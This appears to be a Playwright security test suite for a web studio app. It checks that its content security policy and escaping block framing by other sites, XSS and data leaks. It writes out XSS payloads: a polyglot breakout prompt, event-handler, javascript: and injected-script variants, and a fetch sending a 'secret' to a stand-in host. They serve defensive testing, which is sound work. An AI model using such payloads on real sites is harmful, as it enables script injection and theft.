import { type BrowserContext, expect, type Page, type Route } from "@playwright/test";
import { jobRoom } from "./support/job-room";
import { openLibrary, slug, test, tiles } from "./support/library";
import { orderJob } from "./support/order";
import { type Breaches, watchPolicy } from "./support/policy-breaches";

const STRANGER = "https://stranger.example";
/** Closes whatever it may stand in, and leaves a mark wherever it is run. */
const HOSTILE = `"'></title></script><script>window.ran="words"</script><img src=x onerror='window.ran="words"'>`;

let context: BrowserContext;
let page: Page;
let breaches: Breaches;

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ library, browser }) => {
  const storageState = await library.context.storageState();
  context = await browser.newContext({ baseURL: library.studio.url, storageState });
  breaches = await watchPolicy(context);
  page = await context.newPage();
  await context.route(`${STRANGER}/**`, answerAsStranger);
});
test.afterAll(async () => {
  await context?.close();
});

/** Another site: a page that frames the studio, and a script. */
async function answerAsStranger(route: Route): Promise<void> {
  if (route.request().url().endsWith(".js")) {
    return route.fulfill({ contentType: "text/javascript", body: "window.ran = 'foreign script'" });
  }
  const framed = new URL(route.request().url()).searchParams.get("frame");
  const body = `<h1>Stranger</h1><iframe src="${framed}" width="900" height="600"></iframe>`;
  return route.fulfill({ contentType: "text/html", body });
}

const ran = (on: Page = page) => on.evaluate(() => (window as { ran?: string }).ran ?? null);
const directives = () => [...new Set(breaches.take().map(({ directive }) => directive))].sort();

test("a page of another origin that frames the studio shows nothing of it", async ({ library }) => {
  for (const path of ["/sign-in", `/w/${slug}/library`, "/healthz", "/nothing"]) {
    const address = library.studio.url + path;
    await page.goto(`${STRANGER}/?frame=${encodeURIComponent(address)}`);
    const frame = page.frames().find((one) => one !== page.mainFrame());
    await expect.poll(() => frame?.url(), path).toBe("chrome-error://chromewebdata/");
  }
});

test("nothing that is put into a page's elements runs", async () => {
  const seen: string[] = [];
  await openLibrary(page);
  await page.evaluate((stranger) => {
    const add = (html: string) => {
      const host = document.createElement("div");
      host.innerHTML = html;
      document.body.append(host);
      return host;
    };
    add(`<img src="data:," onerror="window.ran = 'handler'">`);
    add(`<svg onload="window.ran = 'svg handler'"></svg>`);
    add(`<a href="javascript:window.ran = 'link'">x</a>`).querySelector("a")?.click();
    add(`<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`);
    add(`<iframe src="javascript:parent.ran = 'frame link'"></iframe>`);
    add(`<iframe src="${stranger}/?frame=about:blank"></iframe>`);
    // A fragment that is parsed in this way does run its scripts, where nothing forbids it.
    const parsed = document.createRange().createContextualFragment("<script>window.ran = 'parsed'</script>");
    document.body.append(parsed);
    const inline = document.createElement("script");
    inline.textContent = "window.ran = 'inline script'";
    document.body.append(inline);
    for (const src of [`${stranger}/evil.js`, "data:text/javascript,window.ran='data script'"]) {
      document.body.append(Object.assign(document.createElement("script"), { src }));
    }
    const blob = new Blob(["window.ran = 'blob script'"], { type: "text/javascript" });
    document.body.append(Object.assign(document.createElement("script"), { src: URL.createObjectURL(blob) }));
    // Not within this call, which the browser's own debugger makes and lets compile.
    setTimeout(() => new Function("window.ran = 'compiled'")());
    const form = document.createElement("form");
    Object.assign(form, { action: `${stranger}/?frame=about:blank`, method: "post" });
    document.body.append(form);
    form.submit();
    document.head.append(Object.assign(document.createElement("base"), { href: stranger }));
    document.body.append(Object.assign(new Image(), { src: `${stranger}/pixel.png` }));
    void fetch(`${stranger}/tell?secret`, { mode: "no-cors" }).catch(() => undefined);
  }, STRANGER);
  await expect
    .poll(() => {
      seen.push(...directives());
      return [...new Set(seen)].sort();
    })
    .toEqual([
      ...["base-uri", "connect-src", "form-action", "frame-src", "img-src"],
      ...["script-src", "script-src-attr", "script-src-elem"],
    ]);
  expect(await ran()).toBeNull();
  expect(page.url()).toContain("/library");
});
test("nothing that is written into a page's text runs, not even from this server", async () => {
  await page.route("**/library", async (route) => {
    const answer = await route.fetch();
    const evil = [
      `<script>window.ran = "inline"</script>`,
      `<script nonce="">window.ran = "empty nonce"</script>`,
      `<script src="${STRANGER}/evil.js"></script>`,
      `<script src="/w/${slug}/own.js"></script>`,
      `<body onload="window.ran = 'load'">`,
    ].join("");
    const body = (await answer.text()).replace(/<body[^>]*>/, (tag) => tag + evil);
    await route.fulfill({ response: answer, body });
  });
  await page.route("**/own.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: "window.ran = 'own address'" }),
  );
  await openLibrary(page);
  await expect(tiles(page).first()).toBeVisible();
  await expect.poll(directives).toEqual(["script-src-attr", "script-src-elem"]);
  expect(await ran()).toBeNull();
  await page.unrouteAll();
});

test("a hostile prompt is words, wherever it stands", async () => {
  await page.goto(`/w/${slug}`);
  const job = await orderJob(page, `/w/${slug}`, { prompt: HOSTILE, count: 1, animate: false });
  await jobRoom(page).reaches("Finished");
  for (const path of [job, `/w/${slug}`, `/w/${slug}/jobs`]) {
    await page.goto(path);
    await expect(page.getByText("window.ran").first()).toBeAttached();
    await expect(page).toHaveTitle(/\S/);
    expect(await ran(), path).toBeNull();
  }
  await page
    .getByRole("link", { name: /window\.ran/ })
    .first()
    .click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("window.ran");
  expect(await ran()).toBeNull();
  expect(breaches.take()).toEqual([]);
});

test("a file that is a web page, or a picture with a script, runs nothing when it is opened", async () => {
  await openLibrary(page, "?q=shelf&kind=picture");
  const source = await page.locator("[data-tile] img").first().getAttribute("src");
  const files = [
    ["text/html", `<body><script>window.ran = "page"</script><img src=x onerror="window.ran='page'"></body>`],
    ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran = "svg"</script></svg>`],
  ] as const;
  for (const [contentType, body] of files) {
    await page.route("**/media/**", async (route) => {
      const answer = await route.fetch();
      const headers = { ...answer.headers(), "content-type": contentType };
      await route.fulfill({ status: 200, headers, body });
    });
    await page.goto(source ?? "");
    expect(await ran(), contentType).toBeNull();
    expect(await page.evaluate(() => document.contentType)).toBe(contentType);
    await page.unrouteAll();
  }
});
